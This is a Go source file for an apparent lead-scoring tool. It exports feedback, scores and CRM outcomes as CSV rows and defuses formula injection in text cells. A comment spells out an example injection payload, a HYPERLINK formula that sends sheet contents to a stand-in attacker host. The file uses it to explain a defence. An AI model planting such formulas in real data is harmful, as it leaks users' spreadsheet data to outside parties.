package store

import (
	"context"
	"strconv"
	"time"

	"github.com/jmoiron/sqlx"
)

// The exports are for the people who take leadbot's data elsewhere (a spreadsheet, a BI tool).
// Each streams its rows to emit, the header first, as the cells of a CSV file: csv.Writer.Write
// fits. Rows are read one at a time from the database and handed on, so an export of millions of
// rows holds one row in memory. Each query names its columns as the header does, so pasted into
// psql it shows the same table.
//
// Cells are what a spreadsheet reads: times in RFC 3339, UTC; numbers as plain decimals; an empty
// cell for NULL; and text from the CRM or Slack defused against formula injection (see textCell).

// ExportFeedback emits every 👍/👎 given at or after since (zero: all), undone ones included,
// oldest first, and returns the number of rows (the header not counted). score_at_the_time is
// the lead's score when the rep gave the verdict; model_version is empty when that score came
// from the rule-based prior.
func (s *Store) ExportFeedback(ctx context.Context, since time.Time, emit func([]string) error) (int, error) {
	rows, err := s.db.QueryxContext(ctx, `
		SELECT f.created_at AS given_at, r.email AS rep_email, r.name AS rep_name,
		       l.external_id AS lead_id, l.name AS lead_name, l.company,
		       CASE f.verdict WHEN 1 THEN 'up' WHEN -1 THEN 'down' END AS verdict,
		       f.reason_code, rc.label AS reason_label, f.note, f.account_wide,
		       f.probability AS score_at_the_time, f.model_version, f.undone_at
		FROM feedback f
		JOIN reps r ON r.id = f.rep_id
		JOIN leads l ON l.id = f.lead_id
		LEFT JOIN reason_codes rc ON rc.code = f.reason_code
		WHERE $1::timestamptz IS NULL OR f.created_at >= $1
		ORDER BY f.created_at, f.id`, nullTime(since))
	if err != nil {
		return 0, translate("ExportFeedback", err)
	}
	header := []string{"given_at", "rep_email", "rep_name", "lead_id", "lead_name", "company", "verdict",
		"reason_code", "reason_label", "note", "account_wide", "score_at_the_time", "model_version", "undone_at"}
	return export("ExportFeedback", rows, header, emit, func(r *feedbackRow) []string {
		return []string{timeCell(&r.GivenAt), textCell(r.RepEmail), textCell(r.RepName), textCell(r.LeadID),
			textCell(r.LeadName), textCell(r.Company), textCell(r.Verdict), textCell(orEmpty(r.ReasonCode)),
			textCell(orEmpty(r.ReasonLabel)), textCell(r.Note), strconv.FormatBool(r.AccountWide),
			floatCell(r.Probability), intCell(r.ModelVersion), timeCell(r.UndoneAt)}
	})
}

type feedbackRow struct {
	GivenAt      time.Time  `db:"given_at"`
	RepEmail     string     `db:"rep_email"`
	RepName      string     `db:"rep_name"`
	LeadID       string     `db:"lead_id"`
	LeadName     string     `db:"lead_name"`
	Company      string     `db:"company"`
	Verdict      string     `db:"verdict"`
	ReasonCode   *string    `db:"reason_code"`
	ReasonLabel  *string    `db:"reason_label"`
	Note         string     `db:"note"`
	AccountWide  bool       `db:"account_wide"`
	Probability  *float64   `db:"score_at_the_time"`
	ModelVersion *int       `db:"model_version"`
	UndoneAt     *time.Time `db:"undone_at"`
}

var scoreHeader = []string{"scored_at", "lead_id", "lead_name", "company", "owner_email", "probability", "model_version"}

// ExportScores emits the current score of every scored lead, for the leads scored at or after
// since (zero: all), oldest score first, and returns the number of rows. owner_email is the
// lead's owner now; model_version is empty for a score from the rule-based prior.
func (s *Store) ExportScores(ctx context.Context, since time.Time, emit func([]string) error) (int, error) {
	rows, err := s.db.QueryxContext(ctx, `
		SELECT l.scored_at, l.external_id AS lead_id, l.name AS lead_name, l.company,
		       o.email AS owner_email, l.score AS probability, l.score_model AS model_version
		FROM leads l
		LEFT JOIN reps o ON o.id = l.owner_id
		WHERE l.score IS NOT NULL AND ($1::timestamptz IS NULL OR l.scored_at >= $1)
		ORDER BY l.scored_at, l.id`, nullTime(since))
	if err != nil {
		return 0, translate("ExportScores", err)
	}
	return export("ExportScores", rows, scoreHeader, emit, (*scoreRow).cells)
}

// ExportScoreHistory is ExportScores with every score ever recorded (each rescoring of each
// lead), not only the current ones.
func (s *Store) ExportScoreHistory(ctx context.Context, since time.Time, emit func([]string) error) (int, error) {
	rows, err := s.db.QueryxContext(ctx, `
		SELECT s.scored_at, l.external_id AS lead_id, l.name AS lead_name, l.company,
		       o.email AS owner_email, s.probability, s.model_version
		FROM scores s
		JOIN leads l ON l.id = s.lead_id
		LEFT JOIN reps o ON o.id = l.owner_id
		WHERE $1::timestamptz IS NULL OR s.scored_at >= $1
		ORDER BY s.scored_at, s.id`, nullTime(since))
	if err != nil {
		return 0, translate("ExportScoreHistory", err)
	}
	return export("ExportScoreHistory", rows, scoreHeader, emit, (*scoreRow).cells)
}

type scoreRow struct {
	ScoredAt     *time.Time `db:"scored_at"`
	LeadID       string     `db:"lead_id"`
	LeadName     string     `db:"lead_name"`
	Company      string     `db:"company"`
	OwnerEmail   *string    `db:"owner_email"`
	Probability  *float64   `db:"probability"`
	ModelVersion *int       `db:"model_version"`
}

func (r *scoreRow) cells() []string {
	return []string{timeCell(r.ScoredAt), textCell(r.LeadID), textCell(r.LeadName), textCell(r.Company),
		textCell(orEmpty(r.OwnerEmail)), floatCell(r.Probability), intCell(r.ModelVersion)}
}

// ExportOutcomes emits every CRM outcome that occurred at or after since (zero: all), oldest
// first, and returns the number of rows. score_before_outcome is the lead's latest score recorded
// at or before occurred_at, what leadbot said before the outcome was known; empty when the lead
// had no score by then. owner_email is the lead's owner now.
func (s *Store) ExportOutcomes(ctx context.Context, since time.Time, emit func([]string) error) (int, error) {
	rows, err := s.db.QueryxContext(ctx, `
		SELECT oc.occurred_at, l.external_id AS lead_id, l.name AS lead_name, l.company,
		       o.email AS owner_email, oc.outcome, oc.amount::text AS amount,
		       sb.probability AS score_before_outcome
		FROM outcomes oc
		JOIN leads l ON l.id = oc.lead_id
		LEFT JOIN reps o ON o.id = l.owner_id
		LEFT JOIN LATERAL (SELECT s.probability FROM scores s
		                   WHERE s.lead_id = oc.lead_id AND s.scored_at <= oc.occurred_at
		                   ORDER BY s.scored_at DESC, s.id DESC LIMIT 1) sb ON true
		WHERE $1::timestamptz IS NULL OR oc.occurred_at >= $1
		ORDER BY oc.occurred_at, oc.id`, nullTime(since))
	if err != nil {
		return 0, translate("ExportOutcomes", err)
	}
	header := []string{"occurred_at", "lead_id", "lead_name", "company", "owner_email", "outcome", "amount", "score_before_outcome"}
	return export("ExportOutcomes", rows, header, emit, func(r *outcomeRow) []string {
		// amount is numeric(16, 2) as PostgreSQL prints it (exact, "-120.50"): a number, not text.
		return []string{timeCell(&r.OccurredAt), textCell(r.LeadID), textCell(r.LeadName), textCell(r.Company),
			textCell(orEmpty(r.OwnerEmail)), textCell(r.Outcome), orEmpty(r.Amount), floatCell(r.ScoreBefore)}
	})
}

type outcomeRow struct {
	OccurredAt  time.Time `db:"occurred_at"`
	LeadID      string    `db:"lead_id"`
	LeadName    string    `db:"lead_name"`
	Company     string    `db:"company"`
	OwnerEmail  *string   `db:"owner_email"`
	Outcome     string    `db:"outcome"`
	Amount      *string   `db:"amount"`
	ScoreBefore *float64  `db:"score_before_outcome"`
}

// export emits the header, then each row as cells turns it, and closes rows. It stops at the
// first error, from the database (ctx cancelled included) or from emit (returned as it is); op
// names the export in database errors.
func export[T any](op string, rows *sqlx.Rows, header []string, emit func([]string) error, cells func(*T) []string) (int, error) {
	defer rows.Close()
	if err := emit(header); err != nil {
		return 0, err
	}
	n := 0
	for rows.Next() {
		var r T
		if err := rows.StructScan(&r); err != nil {
			return n, translate(op, err)
		}
		if err := emit(cells(&r)); err != nil {
			return n, err
		}
		n++
	}
	return n, translate(op, rows.Err())
}

// textCell defuses text for a spreadsheet. A cell that starts with = + - @, a tab or a carriage
// return is run as a formula by Excel, LibreOffice and Google Sheets: a lead named
// =HYPERLINK("https://evil.example/?"&A1, "Click") in the CRM would become a live link that leaks
// the sheet. Such a cell gets a leading apostrophe, which the spreadsheet shows as text (OWASP,
// "CSV Injection"). Only text from outside goes through here: the numbers and times leadbot
// writes itself (a negative amount included) stay numbers.
func textCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// timeCell is t in RFC 3339, UTC, to the second; "" for NULL.
func timeCell(t *time.Time) string {
	if t == nil {
		return ""
	}
	return t.UTC().Format(time.RFC3339)
}

// floatCell is f as a plain decimal, as precise as stored (0.734, never 7.34e-01); "" for NULL.
func floatCell(f *float64) string {
	if f == nil {
		return ""
	}
	return strconv.FormatFloat(*f, 'f', -1, 64)
}

func intCell(i *int) string {
	if i == nil {
		return ""
	}
	return strconv.Itoa(*i)
}

// orEmpty is *s, or "" for NULL.
func orEmpty(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}
